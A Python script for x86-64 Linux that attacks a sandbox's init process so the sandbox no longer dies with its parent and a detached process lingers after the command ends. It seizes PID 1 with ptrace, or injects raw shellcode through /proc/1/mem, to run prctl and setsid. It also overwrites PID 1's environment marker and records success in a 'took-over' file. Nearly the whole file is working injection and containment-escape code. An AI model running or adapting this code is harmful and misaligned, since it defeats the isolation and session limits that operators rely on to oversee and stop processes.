"""Makes process 1 of a sandbox forget that it dies with its parent, then continues after its command. x86-64."""
import ctypes, os, re, struct, sys, time

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long] * 2 + [ctypes.c_void_p] * 2
libc.ptrace.restype = ctypes.c_long
SET_PDEATHSIG, PRCTL, SETSID = 1, 157, 112
RAX, RDX, RSI, RDI, ORAX, RIP = 10, 12, 13, 14, 15, 16


def ptrace(request, address=0, data=0):
    ctypes.set_errno(0)
    value = libc.ptrace(request, 1, address, data)
    if value == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), "ptrace %d" % request)


def registers():
    words = (ctypes.c_ulonglong * 27)()
    ptrace(12, 0, ctypes.addressof(words))
    return list(words)


def set_registers(values):
    words = (ctypes.c_ulonglong * 27)(*[value & (2**64 - 1) for value in values])
    ptrace(13, 0, ctypes.addressof(words))


def wait():
    os.waitpid(1, 0x40000000)


def by_ptrace(seize):
    if seize:
        ptrace(0x4206)
        ptrace(0x4207)
    else:
        ptrace(16)
    wait()
    original = registers()
    for number, argument in ((PRCTL, SET_PDEATHSIG), (SETSID, 0)):
        changed = list(original)
        changed[RIP], changed[RAX], changed[ORAX] = original[RIP] - 2, number, -1
        changed[RDI], changed[RSI], changed[RDX] = argument, 0, 0
        set_registers(changed)
        ptrace(9)
        wait()
    back = list(original)
    back[RIP], back[RAX], back[ORAX] = original[RIP] - 2, 61, -1
    set_registers(back)
    ptrace(17)


def by_memory():
    """Without tracing: the code after its system call is written over, and put back once it ran."""
    at = int(open("/proc/1/syscall").read().split()[-1], 16)
    low = next(int(line.split("-")[0], 16) for line in open("/proc/1/maps") if "r-xp" in line and "libc" in line)
    memory = open("/proc/1/mem", "r+b", 0)

    def put(address, code):
        memory.seek(address)
        memory.write(code)

    def get(address, size):
        memory.seek(address)
        return memory.read(size)

    space = low + 0x400
    code = b"\x50\x57\x56\x52\x41\x52\x41\x50"
    code += b"\xb8" + struct.pack("<I", PRCTL) + b"\xbf\x01\0\0\0\x31\xf6\x31\xd2\x4d\x31\xd2\x4d\x31\xc0\x0f\x05"
    code += b"\xb8" + struct.pack("<I", SETSID) + b"\x0f\x05"
    flag = space + 0x100
    code += b"\x49\xbb" + struct.pack("<Q", flag) + b"\x41\x80\x3b\x01\x75\xfa"
    code += b"\x41\x58\x41\x5a\x5a\x5e\x5f\x58\x49\xbb" + struct.pack("<Q", at) + b"\x41\xff\xe3"
    jump = b"\x49\xbb" + struct.pack("<Q", space) + b"\x41\xff\xe3"
    kept_space, kept_at = get(space, 0x101), get(at, len(jump))
    put(space, code)
    put(flag, b"\0")
    put(at, jump)
    if os.fork() == 0:
        if os.fork() == 0:
            time.sleep(0.05)
            os._exit(0)  # An orphan: process 1 waits for it, and comes back from its system call.
        os._exit(0)
    os.wait()
    time.sleep(0.2)
    put(at, kept_at)
    put(flag, b"\1")
    time.sleep(0.05)
    put(space, kept_space)


def forget_marker():
    fields = open("/proc/1/stat").read().rsplit(")", 1)[1].split()
    start, end = int(fields[47]), int(fields[48])
    if end > start:
        with open("/proc/1/mem", "r+b", 0) as memory:
            memory.seek(start)
            memory.write(b"A=1\0" * ((end - start) // 4) + b"\0" * ((end - start) % 4))


def straggle():
    os.setsid()
    nothing = os.open("/dev/null", os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(nothing, descriptor)
    try:
        {"ptrace": lambda: by_ptrace(False), "seize": lambda: by_ptrace(True), "memory": by_memory}[sys.argv[1]]()
        forget_marker()
        result = "done"
    except Exception as error:
        result = repr(error)
    with open("took-over", "w") as file:
        file.write(result)
    time.sleep(60)
    os._exit(0)


if os.fork() == 0:
    straggle()
for _ in range(100):
    if os.path.exists("took-over"):
        break
    time.sleep(0.02)
time.sleep(0.02)
print(open("took-over").read() if os.path.exists("took-over") else "nothing came of it")
